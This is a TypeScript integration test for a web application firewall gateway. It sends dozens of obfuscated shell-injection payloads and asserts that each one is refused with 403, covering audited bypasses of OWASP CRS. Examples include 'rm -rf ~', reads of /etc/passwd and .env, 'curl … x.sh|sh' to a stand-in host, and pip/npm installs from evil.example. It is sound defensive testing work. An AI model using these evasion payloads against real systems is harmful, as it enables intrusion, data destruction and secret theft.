// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 22 (round 15 of the WAF evasion audit): commit 4910842's API profile, aimed at what it added: NOISE_ITEM /
 * SHELL_NOISE (`$!`, `${…}` with any operator, `$()`, an empty backtick pair and the `$` of ANSI-C quoting between
 * the letters of command and dot-file names, through `quoted()` in 90111, 90137, 90139, 90107 and 90135's `$0`, and
 * in 90119's curl/wget), 90139's ANSI-C escape alternative, installers from git sources and prototypePathArgs
 * (numeric values under a parent name dropped as array lengths).
 * Against the `waf` policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a
 * recording upstream, over HTTP/1.1 and HTTP/2. Every technique here is one the gateway stops: 403, and the upstream
 * never sees it. The techniques that got through are in the audit's report, not here.
 */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);
/** A POST of a benign JSON body with one extra request header (name, value). */
const hdr = (name: string, value: string): Buffer =>
  req('POST', '/x', [...JSON_CT, [name, value]], J({ name: 'ok' }));

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

/** The address a ping form expects, before the injected command. */
const IP = '127.0.0.1';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // (1) Substitutions that print nothing but hold a command, and nested `${…}`: the rules still read the word.
  { name: 'noise: ;r$(echo)m -rf ~', build: () => json('host', `${IP};r$(echo)m -rf ~`) },
  { name: 'noise: ;i$(true)d', build: () => json('host', `${IP};i$(true)d`) },
  { name: 'noise: ;i$(#)d (a comment in a substitution)', build: () => json('host', `${IP};i$(#)d`) },
  { name: "noise: ;r$(printf '')m -rf ~", build: () => json('host', `${IP};r$(printf '')m -rf ~`) },
  {
    name: 'noise: ;c$(echo)url 203.0.113.9/x.sh|sh',
    build: () => json('host', `${IP};c$(echo)url 203.0.113.9/x.sh|sh`),
  },
  {
    name: 'noise: ;ca$(echo)t /et$(echo)c/pa$(echo)sswd',
    build: () => json('host', `${IP};ca$(echo)t /et$(echo)c/pa$(echo)sswd`),
  },
  { name: 'noise: ;$(echo)$0 -c id', build: () => json('host', `${IP};$(echo)$0 -c id`) },
  { name: 'nested: ;r${x:-${y}}m -rf ~', build: () => json('host', `${IP};r\${x:-\${y}}m -rf ~`) },
  { name: 'nested: ;i${x:-${y}}d', build: () => json('host', `${IP};i\${x:-\${y}}d`) },
  { name: 'nested: ;cat .e${x:-${y}}nv', build: () => json('host', `${IP};cat .e\${x:-\${y}}nv`) },
  { name: 'nested: ;${x:-${y}}$0 -c id', build: () => json('host', `${IP};\${x:-\${y}}$0 -c id`) },
  { name: 'nested: a whole value `i${x:-${y}}d`', build: () => json('branch', '`i${x:-${y}}d`') },
  // (2) `$0` spelled or preceded otherwise.
  { name: 'dollar-zero: ;`:`$0 -c id', build: () => json('host', `${IP};\`:\`$0 -c id`) },
  { name: "dollar-zero: ;$'\\x24'0 -c id", build: () => json('host', `${IP};$'\\x24'0 -c id`) },
  // (3) The same in a query parameter and a header.
  {
    name: 'query: ?host=…;r$(echo)m -rf ~',
    build: () => get(`/api/ping?host=${E(`${IP};r$(echo)m -rf ~`)}`),
  },
  {
    name: 'header: x;c${x:-${y}}url 203.0.113.9/x.sh|sh',
    build: () => hdr('X-Debug', 'x;c${x:-${y}}url 203.0.113.9/x.sh|sh'),
  },
  // (4) Installers: the option and the URL as two words.
  {
    name: 'installer: pip install --index-url https://… pkg',
    build: () => json('note', 'Ok ; pip install --index-url https://evil.example/simple pkg'),
  },
  {
    name: 'installer: pip install git+https://…',
    build: () => json('note', 'Ok ; pip install git+https://evil.example/x.git'),
  },
  // (5) Prototype paths: a numeric member beside the array.
  {
    name: 'prototype: "path.2": 3 beside the array',
    build: () => doc({ 'path.2': 3, path: ['constructor', 'prototype', 'isAdmin'], v: true }),
  },
];

function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

// Audit 22's bypasses, each confirmed against dash/bash or a local registry at the time (200, the upstream
// received it), closed the same session: refused now.
// Audit 22's bypasses of the API profile (route `/*`, CRS v4.28.0 PL1 blocking, commit 4910842), each answered 200
// by the gateway and received by the upstream. Same shapes as test/integration/audit22-waf-evasion.test.ts (json,
// doc, hdr, get, E, IP, J, Case, H2_POST). IP = '127.0.0.1'. Verdicts: [api, CRS PL1, CRS PL2].
// Shell-confirmed: run with `dash -c` / `bash -c` in a throwaway dir with a fake $HOME and a fake .env (rm deleted the
// file, id/whoami printed 0/root, cat printed the secret, curl ran, `$0 -c` ran a command string).
// Installers confirmed: pip3 download / npm install contacted a local registry on 127.0.0.1 given that argument shape.
const BYPASS_CASES: readonly Case[] = [
  // B1 A backtick substitution of a command that prints nothing (`:`, `true`, ` : `) glued into a word: NOISE_ITEM
  // only removes an EMPTY backtick pair. dash and bash. [200, 200, 200] for id/whoami/sleep/rm-in-file-name/header.
  {
    name: 'B1 ;r`:`m -rf ~ (in a file name field; PL2 passes)',
    build: () => json('name', 'report.pdf;r`:`m -rf ~'),
  },
  { name: 'B1b ;i`:`d (PL2 passes)', build: () => json('host', `${IP};i\`:\`d`) },
  { name: 'B1c ;who`:`ami (PL2 passes)', build: () => json('host', `${IP};who\`:\`ami`) },
  {
    name: 'B1d ;s`:`leep 10 (blind timing probe; PL2 passes)',
    build: () => json('host', `${IP};s\`:\`leep 10`),
  },
  { name: 'B1e ;r` : `m -rf ~ (PL2 passes)', build: () => json('host', `${IP};r\` : \`m -rf ~`) },
  { name: 'B1f x`i`:`d glued substitution (PL2 passes)', build: () => json('branch', 'x`i`:`d`') },
  {
    name: 'B1g header x;c`:`url 203.0.113.9/x.sh|sh (PL2 passes)',
    build: () => hdr('X-Debug', 'x;c`:`url 203.0.113.9/x.sh|sh'),
  },
  { name: 'B1h header x;r`:`m -rf ~ (PL2 passes)', build: () => hdr('X-Debug', 'x;r`:`m -rf ~') },
  {
    name: 'B1i ;c`:`url 203.0.113.9/x.sh|sh (PL2 blocks)',
    build: () => json('host', `${IP};c\`:\`url 203.0.113.9/x.sh|sh`),
  },
  { name: 'B1j ;cat .e`:`nv (PL2 blocks)', build: () => json('host', `${IP};cat .e\`:\`nv`) },
  {
    name: 'B1k ;ca`:`t /et`:`c/pa`:`sswd (PL2 blocks)',
    build: () => json('host', `${IP};ca\`:\`t /et\`:\`c/pa\`:\`sswd`),
  },
  { name: 'B1l ;$0`:` -c id (PL2 blocks)', build: () => json('host', `${IP};$0\`:\` -c id`) },
  { name: 'B1m ;i`true`d (PL2 blocks)', build: () => json('host', `${IP};i\`true\`d`) },
  { name: 'B1n ;r`true`m -rf ~ (PL2 blocks)', build: () => json('host', `${IP};r\`true\`m -rf ~`) },

  // B2 bash locale quoting $"…": `$"` is not noise (only `$'`). bash only (dash reads `$` literally).
  { name: 'B2 ;i$"d" (bash; PL2 passes)', build: () => json('host', `${IP};i$"d"`) },
  {
    name: 'B2b ;cu$"rl" 203.0.113.9/x.sh|sh (bash; PL2 passes)',
    build: () => json('host', `${IP};cu$"rl" 203.0.113.9/x.sh|sh`),
  },
  {
    name: 'B2c header x;c$"url" 203.0.113.9/x.sh|sh (bash; PL2 passes)',
    build: () => hdr('X-Debug', 'x;c$"url" 203.0.113.9/x.sh|sh'),
  },
  { name: 'B2d ;$"r"m -rf ~ (bash; PL2 blocks)', build: () => json('host', `${IP};$"r"m -rf ~`) },
  { name: 'B2e ;r$"m" -rf ~ (bash; PL2 blocks)', build: () => json('host', `${IP};r$"m" -rf ~`) },
  { name: 'B2f ;cat .e$"nv" (bash; PL2 blocks)', build: () => json('host', `${IP};cat .e$"nv"`) },
  { name: 'B2g ;$"$0" -c id (bash; PL2 blocks)', build: () => json('host', `${IP};$"$0" -c id`) },

  // B3 ANSI-C escapes not at the start of the word (the 90139 alternative needs `$'` right after the separator; the
  // glued alternative wants `$'[A-Za-z]*'`; the noise removes `$'` and `\` but not `x6d`). bash only.
  { name: "B3 ;i$'\\x64' (bash; PL2 passes)", build: () => json('host', `${IP};i$'\\x64'`) },
  { name: "B3b ;whoam$'\\x69' (bash; PL2 passes)", build: () => json('host', `${IP};whoam$'\\x69'`) },
  { name: "B3c ;r$'\\x6d' -rf ~ (bash; PL2 blocks)", build: () => json('host', `${IP};r$'\\x6d' -rf ~`) },
  { name: "B3d ;cat .en$'\\x76' (bash; PL2 blocks)", build: () => json('host', `${IP};cat .en$'\\x76'`) },
  {
    name: "B3e ;cur$'\\x6c' 203.0.113.9/x.sh|sh (bash; PL2 blocks)",
    build: () => json('host', `${IP};cur$'\\x6c' 203.0.113.9/x.sh|sh`),
  },
  {
    name: `B3f ;""$'\\x69\\x64' (quotes before the escapes; bash; PL2 blocks)`,
    build: () => json('host', `${IP};""$'\\x69\\x64'`),
  },

  // B4 Backslash-newline (line continuation) inside a word: the shell removes both characters; the noise removes the
  // backslash only. dash and bash.
  { name: 'B4 ;$\\⏎0 -c id (PL2 passes)', build: () => json('host', `${IP};$\\\n0 -c id`) },
  { name: 'B4b ;r\\⏎m -rf ~ (PL2 blocks)', build: () => json('host', `${IP};r\\\nm -rf ~`) },
  { name: 'B4c ;i\\⏎d (PL2 blocks)', build: () => json('host', `${IP};i\\\nd`) },
  { name: 'B4d ;cat .e\\⏎nv (PL2 blocks)', build: () => json('host', `${IP};cat .e\\\nnv`) },
  {
    name: 'B4e ;cu\\⏎rl 203.0.113.9/x.sh|sh (PL2 blocks)',
    build: () => json('host', `${IP};cu\\\nrl 203.0.113.9/x.sh|sh`),
  },

  // B5 Installers: a registry option glued to its URL (`--index-url=https://`, `-ihttps://`, `--registry=https://`) or
  // after the package name. [200, 200, 403]. Confirmed: pip3 download / npm install fetched from the given registry.
  {
    name: 'B5 pip install --index-url=https://… pkg',
    build: () => json('note', 'Ok ; pip install --index-url=https://evil.example/simple pkg'),
  },
  {
    name: 'B5b pip install pkg -i https://…',
    build: () => json('note', 'Ok ; pip install pkg -i https://evil.example/simple'),
  },
  {
    name: 'B5c pip install -ihttps://… pkg',
    build: () => json('note', 'Ok ; pip install -ihttps://evil.example/simple pkg'),
  },
  {
    name: 'B5d npm install --registry=https://… pkg',
    build: () => json('note', 'Ok ; npm install --registry=https://evil.example/ pkg'),
  },
  {
    name: 'B5e npm install pkg --registry https://…',
    build: () => json('note', 'Ok ; npm install pkg --registry https://evil.example/'),
  },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: ';r$(echo)m -rf ~', headers: H2_POST, body: J({ host: `${IP};r$(echo)m -rf ~` }) },
  { name: ';i${x:-${y}}d', headers: H2_POST, body: J({ host: `${IP};i\${x:-\${y}}d` }) },
  {
    name: 'query parameter: ;i$(true)d',
    headers: { ':method': 'GET', ':path': `/api/ping?host=${E(`${IP};i$(true)d`)}` },
  },
];

const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: 'B1 over h2', headers: H2_POST, body: J({ host: `${IP};i\`:\`d` }) },
  { name: 'B2 over h2', headers: H2_POST, body: J({ host: `${IP};i$"d"` }) },
  { name: 'B3 over h2', headers: H2_POST, body: J({ host: `${IP};i$'\\x64'` }) },
  { name: 'B4 over h2', headers: H2_POST, body: J({ host: `${IP};$\\\n0 -c id` }) },
  {
    name: 'B5 over h2',
    headers: H2_POST,
    body: J({ note: 'Ok ; pip install --index-url=https://evil.example/simple pkg' }),
  },
];

describe(
  'audit22: WAF evasions of commit 4910842 (substitutions, nested expansions, $0 spellings, installers) the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit22-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('note', 'the link (https://portal.example.com/r/8Kq2?utm_source=mail) was broken'),
        json('msg', 'You have {count, plural, one {# new message} other {# new messages}} from {name}'),
        json('note', '### Load notes\n| Weight | 42,500 lb |\n|---|---|\n| Pallets | 26 |'),
        hdr('X-Client-Note', 'checkout flow, step 2 of 3'),
        json(
          'note',
          'Traceback (most recent call last):\n  File "app.py", line 3, in <module>\nKeyError: id',
        ),
        doc({ path: ['profile', 'settings', 'theme'] }),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ name: "Please find O'Connor's order from last week" })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
